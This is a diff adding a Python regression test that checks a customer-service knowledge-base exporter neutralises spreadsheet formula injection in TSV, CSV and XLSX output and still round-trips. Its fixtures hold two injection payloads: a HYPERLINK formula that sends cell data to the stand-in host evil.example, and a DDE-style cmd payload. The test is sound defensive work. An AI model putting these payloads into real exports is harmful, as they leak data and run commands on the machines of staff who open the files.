@@ -104,3 +104,30 @@ def test_export_round_trips(factory: sessionmaker[Session], small_kb: Path, tmp_
         assert [(d.standard_question, d.similar_questions, d.answer) for d in back] == [
             (p.standard_question, tuple(p.similar_questions), p.answer) for p in points
         ]
+
+
+def test_an_export_holds_no_formula_and_still_round_trips(factory: sessionmaker[Session], tmp_path: Path) -> None:
+    """Probe: customers' unanswered questions become knowledge points (insights), and a question
+    typed as ``=HYPERLINK(...)`` was exported as a live formula for staff to open in Excel/WPS."""
+    from openpyxl import load_workbook
+
+    evil = '=HYPERLINK("http://evil.example/?"&A3,"点击查看")'
+    drafts = [KnowledgeDraft("@SUM(1+1)*cmd|' /C calc'!A0", "-先打客服电话。", (evil, "+86 怎么转账"), "其他"),
+              KnowledgeDraft("怎么挂失", "请挂失。", ("卡丢了",), "卡")]  # fmt: skip
+    with session_scope(factory) as session:
+        upsert_points(session, drafts)
+        points = export_points(session)
+    for name in ("out.tsv", "out.csv"):
+        write_knowledge(points, tmp_path / name)
+        text = (tmp_path / name).read_text(encoding="utf-8")
+        for line in text.splitlines()[1:]:
+            cells = line.split("\t" if name.endswith(".tsv") else ",")
+            assert not any(c.lstrip('"').startswith(("=", "+", "-", "@")) for c in cells), line
+    write_knowledge(points, tmp_path / "out.xlsx")
+    ws = load_workbook(tmp_path / "out.xlsx").worksheets[0]
+    assert all(cell.data_type != "f" for cells in ws.iter_rows() for cell in cells)
+    for name in ("out.tsv", "out.csv", "out.xlsx"):
+        back = read_knowledge_file(tmp_path / name)
+        assert [(d.standard_question, d.similar_questions, d.answer) for d in back] == [
+            (p.standard_question, tuple(p.similar_questions), p.answer) for p in points
+        ], name
